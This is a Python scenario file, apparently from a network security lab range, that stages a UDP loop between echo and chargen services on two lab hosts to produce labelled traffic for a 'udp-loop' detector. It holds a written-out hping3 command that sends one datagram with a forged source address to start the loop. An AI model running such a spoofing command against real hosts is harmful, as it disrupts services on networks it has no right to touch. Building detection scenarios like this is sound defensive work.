"""echo against chargen, begun by one forged datagram."""

from lab.range import Range
from lab.scenario import Scenario
from lab.scenarios.transport.udp_loop_servers import service


def run(net: Range) -> None:
    attacker = net.inside("attacker")
    one, other = net.inside("files"), net.inside("printer")
    loop = [service(one, "echo", 7), service(other, "chargen", 19)]
    net.everyday()
    with net.attack(
        "udp-loop",
        by=[attacker, one, other],
        attackers=[],
        attacker_known=False,
        victims=[one, other],
        also=["ip-spoofing", "udp-flood"],
        frames="udp port 7 and udp port 19",
    ):
        net.tool(attacker, *f"hping3 -q --udp -a {one.ip} -s 7 -k -p 19 -d 10 -c 1 {other.ip}".split())
        net.quiet(6)
        for process in loop:
            net.end(process)
    net.quiet(2)


SCENARIO = Scenario(
    name="udp-loop-echo-chargen",
    about="One datagram of hping3 with a forged source lets echo and chargen of two hosts answer each other.",
    detectors=("udp-loop",),
    tools={"hping3": "hping3"},
    run=run,
)
